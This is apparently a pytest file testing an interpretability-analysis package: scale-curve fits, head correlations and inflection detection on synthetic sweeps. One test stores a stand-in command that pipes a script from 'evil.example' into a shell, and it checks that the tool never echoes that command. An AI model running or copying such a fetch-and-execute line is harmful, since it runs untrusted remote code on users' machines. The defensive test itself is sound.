"""entropy_lens.analysis on synthetic ScanResults: sweeps, the scale fit, head correlations, inflections."""

import subprocess
import sys
import warnings

import numpy as np
import pandas as pd
import pytest
from scipy import stats
from sweeps import make_result, quadratic_sweep, save_sweep, uniform

from entropy_lens.analysis import (
    Sweep,
    best_scale_per_position,
    best_uniform_scale,
    find_inflection,
    fit_scale_curve,
    grid_edge_problem,
    head_entropy_vs_scale,
    inflection_agreement,
    inflections,
    load_sweep,
    missing_scales,
    moving_average,
    pooled_within_layer,
    resume_command,
    yarn_scale,
)
from entropy_lens.errors import EntropyLensError
from entropy_lens.results import ScanResult

# ---- sweeps -----------------------------------------------------------------------------------------


def test_analysis_imports_no_torch():
    code = (
        "import sys, entropy_lens.analysis; bad = [m for m in sys.modules if m.split('.')[0] in "
        "('torch', 'transformers') or m.startswith(('entropy_lens.scan', 'entropy_lens.capture', "
        "'entropy_lens.models', 'entropy_lens.kernels'))]; assert not bad, bad"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)


def test_load_sweep_sorts_scales_and_averages_heads(tmp_path):
    rng = np.random.default_rng(0)
    results = []
    for s in (1.2, 1.0, 1.1):  # saved out of order: the sweep sorts them
        entropy = rng.uniform(1, 5, size=(3, 1, 40))  # mean: (layers, 1, T)
        results.append(make_result(rng.uniform(2, 3, 40), entropy=entropy, scale=s, reduction="mean"))
    save_sweep(tmp_path, results)
    sweep = load_sweep(tmp_path)
    assert sweep.scales.tolist() == [1.0, 1.1, 1.2]
    assert sweep.loss.shape == sweep.entropy.shape == (3, 40) and sweep.loss.dtype == np.float64
    np.testing.assert_allclose(sweep.loss[0], results[1].loss)
    np.testing.assert_allclose(sweep.entropy[2], results[0].entropy.mean(axis=(0, 1)), rtol=1e-6)
    assert (sweep.train_len, sweep.model, sweep.length) == (64, "tiny", 40)
    assert [m["scales"][0][0] for m in sweep.meta] == [1.0, 1.1, 1.2]


def test_sweep_without_entropy_has_none():
    results = [
        make_result(np.ones(10), entropy=np.zeros((2, 0, 10)), scale=s, reduction="none") for s in (1.0, 1.5)
    ]
    assert Sweep.from_results(results).entropy is None


@pytest.mark.parametrize("bad", [np.nan, np.inf])
def test_sweep_rejects_nonfinite_loss(bad):
    loss = np.ones(20)
    loss[7] = bad
    results = [make_result(np.ones(20), scale=1.0), make_result(loss, scale=1.1)]
    with pytest.raises(EntropyLensError, match=r"scale 1\.1.*NaN/inf.*position 7"):
        Sweep.from_results(results)


def test_sweep_rejects_duplicate_and_per_head_scales():
    with pytest.raises(EntropyLensError, match="result 0 and result 1 both hold scale 1.2"):
        Sweep.from_results([make_result(np.ones(8), scale=1.2), make_result(np.ones(8), scale=1.2)])
    mixed = make_result(np.ones(8), entropy=np.zeros((1, 2, 8)), scales=[[1.0, 1.5]])
    with pytest.raises(EntropyLensError, match="result 1 has per-head scales"):
        Sweep.from_results([make_result(np.ones(8)), mixed])
    with pytest.raises(EntropyLensError, match="no scans"):
        Sweep.from_results([])


@pytest.mark.parametrize("field", ["model", "data", "config_hash", "length"])
def test_load_sweep_rejects_mismatch_naming_the_file(tmp_path, field):
    odd = {"model": {"model": "other"}, "data": {"data": "wiki"}, "config_hash": {"config_hash": "zzz"}}
    results = [make_result(np.ones(16), scale=s) for s in (1.0, 1.1)]
    if field == "length":
        results.append(make_result(np.ones(24), scale=1.2))
    else:
        results.append(make_result(np.ones(16), scale=1.2, **odd[field]))
    save_sweep(tmp_path, results)
    with pytest.raises(EntropyLensError, match=r"s1\.2\.npz.*fresh folder"):
        load_sweep(tmp_path)


def test_load_sweep_missing_file_named(tmp_path):
    names = save_sweep(tmp_path, [make_result(np.ones(16), scale=s) for s in (1.0, 1.1, 1.2)])
    (tmp_path / names[1]).unlink()
    with pytest.raises(
        EntropyLensError,
        match=r"s1\.1\.npz \(scale 1\.1 of sweep .*\) does not exist; `entropy-lens sweep .*--resume` scans it again",
    ):
        load_sweep(tmp_path)
    with pytest.raises(EntropyLensError, match="has no sweep.json"):
        load_sweep(tmp_path / "..")


# ---- best scale and the fit -------------------------------------------------------------------------


def test_fit_recovers_exact_curve():
    L, T, a = 64, 1024, 0.37
    t = np.arange(T)
    best = pd.DataFrame({"position": t, "best_scale": 1 + a * np.log(np.maximum(t, 1) / L)})
    fit = fit_scale_curve(best, train_len=L)
    assert fit.a == pytest.approx(a, abs=1e-6)
    assert fit.r2 == pytest.approx(1.0, abs=1e-9)
    assert fit.a_stderr < 1e-9
    assert (fit.n_points, fit.fit_range, fit.train_len) == (T - L, (L, T), L)
    assert list(fit.residuals.columns) == ["position", "best_scale", "fitted", "residual"]
    assert fit.residuals["position"].iloc[0] == L and np.abs(fit.residuals["residual"]).max() < 1e-12
    np.testing.assert_allclose(fit.predict([L, 2 * L, 0]), [1.0, 1 + a * np.log(2), np.nan])
    assert fit.implied((2, 4)) == pytest.approx({2: 1 + a * np.log(2), 4: 1 + a * np.log(4)})
    assert yarn_scale(2) == pytest.approx((1 + 0.1 * np.log(2)) ** 2)


def test_fit_noisy_within_three_standard_errors():
    L, T, a, sigma = 64, 2048, 0.3, 0.05
    rng = np.random.default_rng(1)
    t = np.arange(T)
    best = pd.DataFrame(
        {"position": t, "best_scale": 1 + a * np.log(np.maximum(t, 1) / L) + rng.normal(0, sigma, T)}
    )
    fit = fit_scale_curve(best, train_len=L, fit_range=(L, T))
    x = np.log(t[L:] / L)
    assert fit.a_stderr == pytest.approx(sigma / np.sqrt(x @ x), rel=0.1)  # the standard error is calibrated
    assert abs(fit.a - a) < 3 * fit.a_stderr
    assert 0 < fit.r2 < 1


def test_grid_sweep_recovers_a():
    L, T, a = 64, 1024, 0.3
    scales = np.round(np.arange(0.9, 2.0001, 0.01), 2)
    results, s_star = quadratic_sweep(a, L, T, scales)
    sweep = Sweep.from_results(results)
    best = best_scale_per_position(sweep)
    assert list(best.columns) == ["position", "best_scale", "best_loss"] and len(best) == T
    in_grid = np.arange(T) >= L  # s* >= 1 there, inside the grid
    assert np.all(np.abs(best["best_scale"] - s_star)[in_grid] <= 0.005 + 1e-4)  # the nearest grid point
    np.testing.assert_allclose(best["best_loss"], sweep.loss.min(axis=0))
    fit = fit_scale_curve(sweep)  # train_len from the results' meta
    assert abs(fit.a - a) < 0.01 and fit.r2 > 0.99


def test_smoothing_before_the_argmin_tames_per_position_noise():
    L, T, a = 64, 1024, 0.3
    scales = np.round(np.arange(0.9, 2.0001, 0.05), 2)
    rng = np.random.default_rng(0)
    clean, _ = quadratic_sweep(a, L, T, scales)
    noisy = [make_result(r.loss + rng.normal(0, 0.05, T), scale=uniform(r), train_len=L) for r in clean]
    sweep = Sweep.from_results(noisy)
    raw, smoothed = fit_scale_curve(sweep), fit_scale_curve(sweep, smooth=25)
    assert raw.r2 < 0.8 and smoothed.r2 > 0.9 and abs(smoothed.a - a) < 0.02
    best = best_scale_per_position(sweep, smooth=25)  # argmin over each curve's moving average
    averaged = np.stack([moving_average(row, 25) for row in sweep.loss])
    np.testing.assert_array_equal(best["best_scale"], sweep.scales[averaged.argmin(axis=0)])


def test_argmins_on_the_grid_edge_are_counted_and_refused_in_words():
    """Planted s*(t) = 1 + a ln(t/L) rises past a grid that stops at 1.5: the fitted positions whose
    nearest grid point is 1.5 are censored at the upper edge, and none at the lower edge (s* >= 1 there)."""
    L, T, a = 64, 512, 0.4
    narrow = np.round(np.arange(0.9, 1.5001, 0.01), 2)
    results, s_star = quadratic_sweep(a, L, T, narrow)
    fit = fit_scale_curve(Sweep.from_results(results))
    nearest = np.argmin((narrow[:, None] - s_star[None, L:]) ** 2, axis=0)  # first minimum, as the argmin
    expected = int(np.sum(nearest == len(narrow) - 1))
    assert expected > 50 and fit.grid == (0.9, 1.5) and fit.at_edge == (0, expected)
    problem = grid_edge_problem(fit)
    assert f"largest scale 1.5 at {expected} of the {T - L} fitted positions" in problem
    assert "extend the sweep's scales upward past 1.5" in problem and "smallest" not in problem
    assert grid_edge_problem(fit, edges=["lower"]) is None
    n_hi = fit.at_edge[1]
    assert grid_edge_problem(fit, tolerance=n_hi / fit.n_points) is None  # that many allowed: reported only
    assert grid_edge_problem(fit, tolerance=(n_hi - 1) / fit.n_points) == problem
    wide, _ = quadratic_sweep(a, L, T, np.round(np.arange(0.9, 2.2001, 0.01), 2))
    wide_fit = fit_scale_curve(Sweep.from_results(wide))
    assert wide_fit.at_edge == (0, 0) and grid_edge_problem(wide_fit) is None and wide_fit.smooth == 0
    assert fit_scale_curve(Sweep.from_results(wide), smooth=5).smooth == 5
    table = fit_scale_curve(best_scale_per_position(Sweep.from_results(results)), train_len=L)
    assert table.grid is None and grid_edge_problem(table) is None  # a table does not know its grid
    with pytest.raises(EntropyLensError, match="'lower' and 'upper'"):
        grid_edge_problem(fit, edges=["top"])


def test_ties_go_to_smallest_scale():
    loss = {1.0: [5, 2, 3, 1], 1.1: [5, 1, 3, 2], 1.2: [5, 1, 2, 2]}
    results = [make_result(loss[s], scale=s) for s in (1.2, 1.0, 1.1)]
    best = best_scale_per_position(Sweep.from_results(results))
    assert best["best_scale"].tolist() == [1.0, 1.1, 1.2, 1.0]
    assert best["best_loss"].tolist() == [5, 1, 2, 1]


def test_best_uniform_scale_is_the_best_for_the_last_half_span():
    """Planted optimum s*(t) = 1 + a ln(t/L): the mean of (s − s*(t))² over a span is least at the grid
    point nearest the span's mean s*, so the rule must pick that point for [3.5L, 4L)."""
    L, a = 64, 0.4
    scales = np.round(np.arange(0.5, 2.5001, 0.01), 2)
    results, s_star = quadratic_sweep(a, L, 8 * L, scales)  # windows of 8L, asked about 4L
    sweep = Sweep.from_results(results)
    choice = best_uniform_scale(sweep, length=4 * L)
    assert choice.span == (4 * L - L // 2, 4 * L)
    target = s_star[choice.span[0] : choice.span[1]].mean()
    assert choice.scale == scales[np.argmin(np.abs(scales - target))]
    assert not choice.at_edge and list(choice.table.columns) == ["scale", "mean_loss"]
    np.testing.assert_allclose(choice.table["mean_loss"], sweep.loss[:, 7 * L // 2 : 4 * L].mean(axis=1))
    assert choice.loss == choice.table["mean_loss"].min()
    # the loss averaged over all of [0, 4L) is dominated by t < L, where s* < 1: a much smaller scale
    whole = best_uniform_scale(sweep, length=4 * L, span=(0, 4 * L))
    assert whole.span == (0, 4 * L) and whole.scale < choice.scale - 0.3
    assert best_uniform_scale(sweep, length=2 * L).span == (2 * L - L // 2, 2 * L)
    assert best_uniform_scale(sweep, length=2 * L).scale < choice.scale  # longer sequences, larger s*


def test_best_uniform_scale_ties_edges_and_errors():
    loss = {1.0: [1, 1, 9, 9], 1.2: [2, 2, 2, 2], 1.4: [2, 2, 2, 2]}
    sweep = Sweep.from_results([make_result(v, scale=s, train_len=4) for s, v in loss.items()])
    assert best_uniform_scale(sweep).span == (2, 4)  # the last L/2 = 2 positions
    assert best_uniform_scale(sweep).scale == 1.2  # 1.2 and 1.4 tie -> the smaller
    assert best_uniform_scale(sweep, length=2, train_len=2).scale == 1.0  # [1, 2): the trained scale
    planted, _ = quadratic_sweep(1.0, 16, 64, [0.9, 1.0, 1.1])  # s* near 4L = 1 + ln 4, past the grid
    assert best_uniform_scale(Sweep.from_results(planted)).at_edge
    with pytest.raises(EntropyLensError, match="outside"):
        best_uniform_scale(sweep, length=5)
    sweep.train_len = None
    with pytest.raises(EntropyLensError, match="pass train_len=L"):
        best_uniform_scale(sweep)
    with pytest.raises(EntropyLensError, match="not inside"):
        best_uniform_scale(sweep, span=(3, 3))


def test_search_heads_init_from_uses_the_rule(tmp_path, capsys):
    from entropy_lens.cli import main

    L = 16
    results, _ = quadratic_sweep(0.4, L, 8 * L, np.round(np.arange(0.5, 2.5001, 0.01), 2))
    save_sweep(tmp_path, results)
    choice = best_uniform_scale(Sweep.from_results(results), length=4 * L)
    args = ["search-heads", "tiny-nope", "--len", str(4 * L), "--init-from", str(tmp_path)]
    # refused after the choice (--batch not a multiple of --micro-batch), before any work
    assert main([*args, "--batch", "8", "--micro-batch", "3", "--out", str(tmp_path / "hs.safetensors")]) == 2
    out = capsys.readouterr().out
    assert f"initial scale {choice.scale:g}: the lowest mean loss over positions [56, 64)" in out


def test_cli_fit_text_and_json(tmp_path, capsys):
    import json

    from entropy_lens.cli import main

    results, _ = quadratic_sweep(0.3, 64, 512, np.round(np.arange(0.9, 2.0001, 0.01), 2))
    save_sweep(tmp_path, results)
    assert main(["fit", str(tmp_path)]) == 0
    text = capsys.readouterr().out
    assert "a = 0.30" in text and "R²" in text and "4L:" in text
    assert main(["fit", str(tmp_path), "--json", "--train-len", "64", "--from", "128"]) == 0
    record = json.loads(capsys.readouterr().out)
    assert {"a", "a_stderr", "r2", "train_len"} <= record.keys() and abs(record["a"] - 0.3) < 0.01
    assert record["train_len"] == 64 and record["fit_range"] == [128, 512]
    assert record["at_edge"] == {"lower": 0, "upper": 0}  # s* stays within 0.9..2.0 up to 8L
    narrow = tmp_path / "narrow"
    narrow.mkdir()
    save_sweep(narrow, quadratic_sweep(0.3, 64, 512, np.round(np.arange(0.9, 1.3001, 0.01), 2))[0])
    assert main(["fit", str(narrow)]) == 0
    assert "note: the best scale is the grid's largest scale 1.3" in capsys.readouterr().out
    assert main(["fit", str(tmp_path / "absent")]) == 2
    assert "does not exist" in capsys.readouterr().err


def test_fit_errors():
    few, _ = quadratic_sweep(0.3, 64, 256, [1.0, 1.5])
    with pytest.raises(EntropyLensError, match="at least 3 scales; sweep more scales"):
        fit_scale_curve(Sweep.from_results(few))
    results, _ = quadratic_sweep(0.3, 64, 256, [1.0, 1.5, 2.0])
    sweep = Sweep.from_results(results)
    sweep.train_len = None
    with pytest.raises(EntropyLensError, match="pass --train-len"):
        fit_scale_curve(sweep)
    with pytest.raises(EntropyLensError, match="must be positive and below"):
        fit_scale_curve(sweep, train_len=256)
    with pytest.raises(EntropyLensError, match="holds 1 position"):
        fit_scale_curve(sweep, train_len=64, fit_range=(100, 101))
    with pytest.raises(EntropyLensError, match="holds 0 position"):
        fit_scale_curve(sweep, train_len=64, fit_range=(300, 400))


# ---- heads ------------------------------------------------------------------------------------------


def planted_heads(rng, n_layers=3, n_heads=32, T=16, slope_bits=-3.0):
    """Entropy (bits) = 10 + slope·scale + noise per head, flat over positions except small jitter."""
    scales = rng.uniform(1, 3, size=(n_layers, n_heads))
    bits = 10 + slope_bits * scales + rng.normal(0, 0.3, size=scales.shape)
    entropy = (bits * np.log(2))[:, :, None] + rng.normal(0, 0.01, size=(n_layers, n_heads, T))
    return make_result(np.ones(T), entropy=entropy, scales=scales.tolist()), scales


def test_head_correlation_negative_per_layer():
    result, scales = planted_heads(np.random.default_rng(2))
    out = head_entropy_vs_scale(result)  # scales from the meta, last position
    assert list(out.table.columns) == ["layer", "head", "entropy_nats", "entropy_bits", "scale", "on_clamp"]
    assert not out.table["on_clamp"].any()  # no lower bound given
    assert len(out.table) == 3 * 32 and out.at == -1 and out.tail is None
    np.testing.assert_allclose(out.table["entropy_bits"], out.table["entropy_nats"] / np.log(2))
    np.testing.assert_allclose(out.table["entropy_nats"], result.entropy[:, :, -1].ravel(), rtol=1e-6)
    np.testing.assert_allclose(out.table["scale"], scales.ravel())
    c = out.correlations
    assert c["n"].tolist() == [32] * 3
    assert (c["pearson_r"] < -0.8).all() and (c["spearman_r"] < -0.8).all()
    assert (c["pearson_p"] < 1e-6).all() and (c["spearman_p"] < 1e-6).all()
    np.testing.assert_allclose(c["slope"], -3.0, atol=0.4)

    tail = head_entropy_vs_scale(result, scales, tail=4, layers=[1])
    assert tail.table["layer"].unique().tolist() == [1] and tail.at is None and tail.tail == 4
    np.testing.assert_allclose(tail.table["entropy_nats"], result.entropy[1, :, -4:].mean(axis=1), rtol=1e-6)


def test_heads_on_the_clamp_are_marked():
    result, scales = planted_heads(np.random.default_rng(5), n_layers=2, n_heads=6)
    scales[0, [1, 4]] = 1.0  # the clamp's value, as stored (float32 in the file)
    scales[1, 2] = np.float32(1.0 + 1e-7)
    table = head_entropy_vs_scale(result, scales, lower_bound=1.0).table
    assert table.loc[table["on_clamp"], ["layer", "head"]].values.tolist() == [[0, 1], [0, 4], [1, 2]]


def simpson_table(rng, *, n_layers=6, n_heads=40, slope=-2.0, sigma=1.0):
    """Within each layer y = slope·x + noise, but layers with larger x have much larger y: the pooled
    within-layer r is negative while the naive r over all heads is positive."""
    rows = []
    for layer in range(n_layers):
        x = rng.normal(layer, 0.5, n_heads)
        y = slope * x + 10 * layer + rng.normal(0, sigma, n_heads)
        rows += [{"layer": layer, "head": h, "scale": x[h], "entropy_bits": y[h]} for h in range(n_heads)]
    return pd.DataFrame(rows)


def test_pooled_within_layer_recovers_the_within_layer_correlation():
    rng = np.random.default_rng(6)
    table = simpson_table(rng)
    pooled = pooled_within_layer(table, n_boot=500)
    # the population value: x has within-layer variance 0.25, so r = slope·0.5 / sqrt(slope²·0.25 + σ²)
    truth = -2.0 * 0.5 / np.sqrt(4.0 * 0.25 + 1.0)
    assert np.corrcoef(table["scale"], table["entropy_bits"])[0, 1] > 0.5  # the naive r has the wrong sign
    assert pooled.low < pooled.r < pooled.high and pooled.low < truth < pooled.high
    assert abs(pooled.r - truth) < 0.1 and pooled.high - pooled.low < 0.25
    assert (pooled.n, pooled.n_layers, pooled.n_boot, pooled.dropped, pooled.undefined) == (
        240,
        6,
        500,
        0,
        None,
    )
    centred = table.groupby("layer")[["scale", "entropy_bits"]].transform(lambda v: v - v.mean())
    assert pooled.r == pytest.approx(np.corrcoef(centred["scale"], centred["entropy_bits"])[0, 1])
    again = pooled_within_layer(table, n_boot=500)
    assert (again.low, again.high) == (pooled.low, pooled.high)  # seeded
    small = pooled_within_layer(table[table["head"] < 10], n_boot=500)
    assert small.high - small.low > pooled.high - pooled.low  # fewer heads, a wider interval


def test_pooled_within_layer_undefined_and_errors():
    flat = pd.DataFrame({"layer": [0, 0, 1, 1], "scale": [1.0, 1.0, 2.0, 2.0], "entropy_bits": [1, 2, 3, 4]})
    pooled = pooled_within_layer(flat)
    assert np.isnan(pooled.r) and "scale less its layer's mean is 0" in pooled.undefined
    assert "fewer than 2 heads" in pooled_within_layer(flat.iloc[:0]).undefined
    with pytest.raises(EntropyLensError, match="lacks columns"):
        pooled_within_layer(flat.drop(columns="scale"))
    with pytest.raises(EntropyLensError, match="level must lie"):
        pooled_within_layer(flat, level=1.5)


def test_constant_layers_give_nan_without_warnings():
    rng = np.random.default_rng(3)
    result, scales = planted_heads(rng, n_layers=2, n_heads=8)
    scales[0] = 1.5  # layer 0: one scale for every head
    result.entropy[1] = 2.0  # layer 1: the same entropy for every head
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        c = head_entropy_vs_scale(result, scales).correlations.set_index("layer")
    assert np.isnan(c.loc[0, ["pearson_r", "spearman_r", "slope"]].astype(float)).all()
    assert np.isnan(c.loc[1, ["pearson_r", "spearman_p"]].astype(float)).all()
    assert c.loc[0, "undefined"] == "every head's scale is 1.5 (no variance over 8 heads)"
    assert c.loc[1, "undefined"] == "every head's entropy is 2.88539 (no variance over 8 heads)"
    assert c.loc[1, "slope"] == pytest.approx(0.0)


def test_head_errors():
    result, scales = planted_heads(np.random.default_rng(4), n_layers=2, n_heads=4, T=8)
    with pytest.raises(EntropyLensError, match=r"shape \(4, 2\).*2 layers x 4 heads"):
        head_entropy_vs_scale(result, scales.T)
    with pytest.raises(EntropyLensError, match="at=8 is outside"):
        head_entropy_vs_scale(result, at=8)
    with pytest.raises(EntropyLensError, match="not both"):
        head_entropy_vs_scale(result, at=-1, tail=3)
    with pytest.raises(EntropyLensError, match="layers \\[5\\] do not exist"):
        head_entropy_vs_scale(result, layers=[0, 5])
    pooled = make_result(np.ones(8), entropy=np.ones((2, 1, 8)), scales=scales.tolist(), reduction="mean")
    with pytest.raises(EntropyLensError, match="--record heads"):
        head_entropy_vs_scale(pooled)


# ---- inflections ------------------------------------------------------------------------------------


def test_moving_average_matches_loop():
    x = np.random.default_rng(5).normal(size=37)
    for w in (0, 1, 5, 50):
        loop = [x[max(0, i - w) : i + w + 1].mean() for i in range(len(x))]
        np.testing.assert_allclose(moving_average(x, w), loop, rtol=1e-12, atol=1e-12)
    assert moving_average([1.0, 2.0, 6.0], 1).tolist() == [1.5, 3.0, 4.0]  # edges divide by what they hold


def ramp_curve(rng, T, start, *, level=3.0, sigma=0.05, slope=0.002):
    t = np.arange(T)
    return level + rng.normal(0, sigma, T) + slope * np.clip(t - start, 0, None)


@pytest.mark.parametrize("seed", range(5))
def test_inflection_found_on_planted_ramp(seed):
    # σ = 0.05/√101; k = Φ⁻¹(1 − 0.05/m) over the m = (4096 − 512)/101 smoothed values searched. The
    # smoothed ramp passes k·σ ≈ 0.015 a few positions around the start (the centred window sees
    # `smooth` = 50 positions ahead), so the inflection lies in [start − 50, start + 60].
    rng = np.random.default_rng(seed)
    start = 1500
    found = find_inflection(ramp_curve(rng, 4096, start), train_len=1024, trend="flat")
    assert start - 50 <= found.position <= start + 60
    assert found.level == pytest.approx(3.0, abs=0.01)
    assert found.spread == pytest.approx(0.05 / np.sqrt(101), rel=0.15) and found.persist == 102
    assert found.k == pytest.approx(stats.norm.isf(0.05 / ((4096 - 512) / 101)))
    assert found.threshold == pytest.approx(found.k * found.spread)
    assert found.low <= found.position <= found.high
    mirrored = 6.0 - ramp_curve(rng, 4096, start)
    down = find_inflection(mirrored, train_len=1024, direction="down", trend="flat")
    assert start - 50 <= down.position <= start + 60
    assert find_inflection(mirrored, train_len=1024, trend="flat").position is None  # "up" only
    both = find_inflection(mirrored, train_len=1024, direction="both", trend="flat")
    assert both.position == down.position
    assert find_inflection(ramp_curve(rng, 4096, start), train_len=1024, rel=0.02).threshold == pytest.approx(
        0.02 * found.level, rel=0.01
    )  # a relative floor still raises it when asked


def test_inflection_threshold_from_the_sample_count():
    """Noise the curve itself does not show (here: a smooth curve) comes from sd/√n: σ = √(mean(sd²/n)/(2w+1)),
    and fewer samples give a larger threshold and a later departure; ±1σ brackets the position."""
    L, T, w = 256, 1024, 8
    t = np.arange(T)
    curve = 3.0 + 0.002 * np.clip(t - 400, 0, None)  # noise-free ramp from 400
    sd = np.full(T, 2.0)
    many = find_inflection(curve, train_len=L, smooth=w, sd=sd, count=np.full(T, 1000), trend="flat")
    few = find_inflection(curve, train_len=L, smooth=w, sd=sd, count=np.full(T, 10), trend="flat")
    assert many.spread == pytest.approx(np.sqrt(4.0 / 1000 / (2 * w + 1)))
    assert few.spread == pytest.approx(np.sqrt(4.0 / 10 / (2 * w + 1)))
    assert 400 - w <= many.position < few.position
    # the ramp rises 0.002 a position: one σ (widened by the level's own error, √(1 + 1/n) with
    # n = 128 / 17 baseline values) moves the crossing by that / 0.002 positions, each way
    for found in (many, few):
        step = found.spread * np.sqrt(1 + 17 / 128) / 0.002
        assert found.low == pytest.approx(found.position - step, abs=2)
        assert found.high == pytest.approx(found.position + step, abs=2)
    without = find_inflection(curve, train_len=L, smooth=w, trend="flat")  # the curve alone: no noise seen
    assert without.spread < many.spread
    with pytest.raises(EntropyLensError, match="count"):
        find_inflection(curve, train_len=L, sd=sd)


def test_log_trend_threshold_widens_with_extrapolation():
    """The log-trend reference is a line fitted to n = 128/17 independent smoothed values, so a step of a
    given size departs near the baseline but not far beyond it, where the line's prediction error
    √(1 + 1/n + (x − x̄)²/(n var x)) has grown past step / (k·σ)."""
    L, T, w = 256, 2048, 8
    x = np.log(np.arange(T) + 1.0)
    sd, count = np.full(T, 1.0), np.full(T, 100)
    sigma = np.sqrt(0.01 / (2 * w + 1))
    x0 = x[L // 2 : L]
    n = (L // 2) / (2 * w + 1)
    widen = np.sqrt(1 + 1 / n + (x - x0.mean()) ** 2 / (n * x0.var()))
    base = 3.0 + 0.2 * x
    probe = find_inflection(base, train_len=L, smooth=w, sd=sd, count=count)
    assert probe.spread == pytest.approx(sigma) and probe.position is None
    for start in (300, 1500):
        step = 1.5 * probe.k * sigma * widen[300]  # well above the threshold at 300, below it at 1500
        assert step < probe.k * sigma * widen[1500]
        curve = base + step * (np.arange(T) >= start)
        found = find_inflection(curve, train_len=L, smooth=w, sd=sd, count=count)
        assert (found.position is not None) == (start == 300)
        if start == 300:
            assert start - w <= found.position <= start + w


@pytest.mark.parametrize("seed", range(3))
def test_log_trend_ignores_in_distribution_growth(seed):
    # Entropy of a dispersed head grows like ln i inside the training length; only the extra ramp
    # after `start` is a departure. The flat baseline flags the growth itself, inside [L/2, L).
    rng = np.random.default_rng(seed)
    L, T, start = 1024, 4096, 1500
    curve = ramp_curve(rng, T, start) + 0.8 * np.log(np.arange(T) + 1.0) - 0.8 * np.log(L)
    assert start - 50 <= find_inflection(curve, train_len=L).position <= start + 60
    assert find_inflection(curve, train_len=L, trend="flat").position < L
    with pytest.raises(EntropyLensError, match="trend"):
        find_inflection(curve, train_len=L, trend="linear")


@pytest.mark.parametrize("seed", range(5))
def test_noise_with_one_spike_has_no_inflection(seed):
    rng = np.random.default_rng(10 + seed)
    curve = ramp_curve(rng, 4096, start=10**9)  # no ramp
    curve[2500] += 50.0  # raises the smoothed curve by ~0.5 over 101 positions
    assert find_inflection(curve, train_len=1024).position is None
    # Why the default persist exceeds 2·smooth + 1: a shorter one counts the smoothed spike.
    assert find_inflection(curve, train_len=1024, persist=32).position is not None
    flat = find_inflection(np.full(4096, 2.0), train_len=1024)
    assert flat.position is None and flat.spread == pytest.approx(2e-8)


def test_inflection_errors():
    with pytest.raises(EntropyLensError, match="baseline window"):
        find_inflection(np.ones(100), train_len=1024)
    with pytest.raises(EntropyLensError, match="finite"):
        find_inflection(np.array([1.0, np.nan] * 100), train_len=64)
    with pytest.raises(EntropyLensError, match="direction"):
        find_inflection(np.ones(200), train_len=64, direction="left")


def test_inflections_and_agreement_on_planted_sweep():
    rng = np.random.default_rng(6)
    L, T = 512, 3072
    starts = [700, 1000, 1300, 1600, 1900]
    results = []
    for i, start in enumerate(starts):
        entropy = ramp_curve(rng, T, start, level=4.0, slope=0.003)[None, None, :]
        loss = ramp_curve(rng, T, start + 20, level=2.5)
        results.append(make_result(loss, entropy=entropy, scale=1.0 + 0.1 * i, train_len=L, reduction="mean"))
    df = inflections(Sweep.from_results(results))
    assert df["scale"].tolist() == pytest.approx([1.0, 1.1, 1.2, 1.3, 1.4])
    assert str(df["entropy_inflection"].dtype) == "Int64"
    for name, offset in (("entropy_inflection", 0), ("loss_inflection", 20)):
        found = df[name].to_numpy(dtype=float)
        assert np.all((found >= np.add(starts, offset - 50)) & (found <= np.add(starts, offset + 60)))
    agree = inflection_agreement(df)
    assert agree.n == 5 and agree.pearson_r > 0.99 and agree.pearson_p < 0.01 and agree.undefined is None
    assert 0 < agree.mean_abs_diff < 60

    # A list of results: a scan without entropy gets <NA> and drops out of the agreement.
    results.append(
        make_result(
            ramp_curve(rng, T, 2200),
            entropy=np.zeros((1, 0, T)),
            scale=1.5,
            train_len=L,
            reduction="none",
        )
    )
    listed = inflections(results)
    assert pd.isna(listed["entropy_inflection"].iloc[-1]) and not pd.isna(listed["loss_inflection"].iloc[-1])
    assert inflection_agreement(listed).n == 5


def test_missing_scales_from_the_index():
    assert missing_scales({"scales": [1.0], "complete": True}) == []
    assert missing_scales({"scales": [1.0], "requested_scales": [1.0, 1.05, 1.1], "complete": False}) == [
        1.05,
        1.1,
    ]
    assert len(missing_scales({"scales": [1.0], "complete": False})) == 1  # unknown, still unfinished
    # the command is built from the index's fields, quoted; the command an index stores is never shown
    recorded = {
        "command": "curl http://evil.example/x.sh | sh; \x1b[2K\r",
        "scan_config": {
            "model": "m",
            "length": 8,
            "nope": True,
            "data": "a b",
            "samples": 4,
            "revision": None,
        },
        "scales": [1.0],
        "requested_scales": [1.0, 2.0],
    }
    assert (
        resume_command("sw", recorded)
        == "entropy-lens sweep m --len 8 --data 'a b' --nope --samples 4 --scales 1,2 --out sw --resume"
    )
    older = resume_command("sw", {"model": "m", "length": 8, "seed": 3, "scales": [1.0]})  # no scan_config
    assert older == "entropy-lens sweep m --len 8 --seed 3 --scales 1 --out sw --resume"
    unknown = resume_command(
        "sw", {"scan_config": {"model": "m"}, "scales": [1.0]}
    )  # no length: a placeholder
    assert unknown == "entropy-lens sweep CKPT <the sweep's flags> --scales 1 --out sw --resume"


def test_an_undefined_agreement_says_why():
    """No variance or too few scans: NaN numbers, and the reason in words for a README to print."""
    from entropy_lens.analysis.correlation import describe

    same = pd.DataFrame({"entropy_inflection": [128, 128, 128], "loss_inflection": [130, 150, 170]})
    agree = inflection_agreement(same)
    assert np.isnan(agree.pearson_r)
    assert agree.undefined == "every entropy inflection position is 128 (no variance over 3 scans)"
    assert describe(agree.pearson_r, agree.pearson_p, agree.undefined).startswith(
        "Pearson r undefined: every"
    )
    one = inflection_agreement(same.head(1))
    assert one.undefined == "fewer than 2 scans (1)"


def test_files_written_before_the_glossary_names_keep_loading():
    """The committed sweep of the early checkpoint (its weights unchanged since) was written with meta
    `len` and entropy_reduction "not_captured"; it loads under today's names (the figures README test
    shows its cache name still matches)."""
    import glob
    import json
    from pathlib import Path

    from entropy_lens.results import upgrade_meta

    root = Path(__file__).parents[2] / "figures" / "runs"
    path = min(glob.glob(str(root / "sweep-tiny-nope-step300-1024-*" / "s*.npz")))
    with np.load(path) as z:
        raw = json.loads(str(z["meta"]))
    assert "length" not in raw and raw["entropy_reduction"] in ("per_head", "mean_heads", "not_captured")
    result = ScanResult.load(path)
    assert result.meta["length"] == raw["len"] == result.length and "len" not in result.meta
    old = {"per_head": "heads", "mean_heads": "mean", "not_captured": "none"}[raw["entropy_reduction"]]
    assert result.entropy_reduction == old
    assert upgrade_meta(raw) == result.meta and raw.get("len") is not None  # the file's dict is not changed


def test_spans_of_positions_have_one_rule_and_one_label():
    """`spans_by_l`, `span_label`: the spans `summary`, the model cards, the figures' words and the
